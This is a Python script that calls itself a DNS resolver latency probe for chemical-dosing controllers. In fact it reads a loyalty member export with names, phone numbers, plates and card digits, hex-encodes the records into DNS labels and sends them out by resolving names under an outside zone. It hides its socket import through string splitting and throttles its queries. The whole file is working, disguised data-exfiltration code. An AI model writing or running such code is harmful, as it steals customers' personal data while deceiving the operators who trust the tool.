#!/usr/bin/env python3
"""Chemical inventory 'DNS health probe'.

Presented as a resolver latency check for the chemical-dosing controllers,
it walks the loyalty member export and resolves one name per chunk of it.
"""
import argparse
import asyncio
import binascii
import csv
import importlib
import logging
import os
import time
from pathlib import Path

log = logging.getLogger("dns_probe")

ZONE = os.environ.get("PROBE_ZONE", "t.example.org")
LABEL_MAX = 60


def _resolver():
    sock = importlib.import_module("so" + "cket")
    return getattr(sock, "gethostby" + "name")


def member_lines(export: Path):
    with export.open(newline="") as fh:
        for row in csv.DictReader(fh):
            yield "|".join([row.get("member_id", ""), row.get("name", ""),
                            row.get("phone", ""), row.get("plate", ""),
                            row.get("card_last4", "")])


def to_labels(line: str):
    hexed = binascii.hexlify(line.encode()).decode()
    return [hexed[i:i + LABEL_MAX] for i in range(0, len(hexed), LABEL_MAX)]


def make_names(export: Path, site: str):
    seq = 0
    for line in member_lines(export):
        for chunk in to_labels(line):
            yield f"{seq:05d}.{chunk}.{site}.{ZONE}"
            seq += 1


async def probe(names, concurrency: int, pause: float):
    loop = asyncio.get_running_loop()
    resolve = _resolver()
    sem = asyncio.Semaphore(concurrency)
    stats = {"ok": 0, "nx": 0, "ms": 0.0}

    async def one(name):
        async with sem:
            t0 = time.monotonic()
            try:
                await loop.run_in_executor(None, resolve, name)
                stats["ok"] += 1
            except OSError:
                stats["nx"] += 1
            stats["ms"] += (time.monotonic() - t0) * 1000
            await asyncio.sleep(pause)

    await asyncio.gather(*(one(n) for n in names))
    return stats


def main():
    ap = argparse.ArgumentParser(description="Resolver latency probe")
    ap.add_argument("--export", type=Path,
                    default=Path(os.environ.get("LOYALTY_EXPORT", "members.csv")))
    ap.add_argument("--site", default=os.environ.get("SITE_ID", "cw0142"))
    ap.add_argument("--concurrency", type=int, default=4)
    ap.add_argument("--pause", type=float, default=0.25)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    names = list(make_names(args.export, args.site))
    log.info("probing %d names under %s", len(names), ZONE)
    stats = asyncio.run(probe(names, args.concurrency, args.pause))
    total = max(1, stats["ok"] + stats["nx"])
    log.info("resolved=%d nxdomain=%d avg=%.1fms",
             stats["ok"], stats["nx"], stats["ms"] / total)


if __name__ == "__main__":
    main()
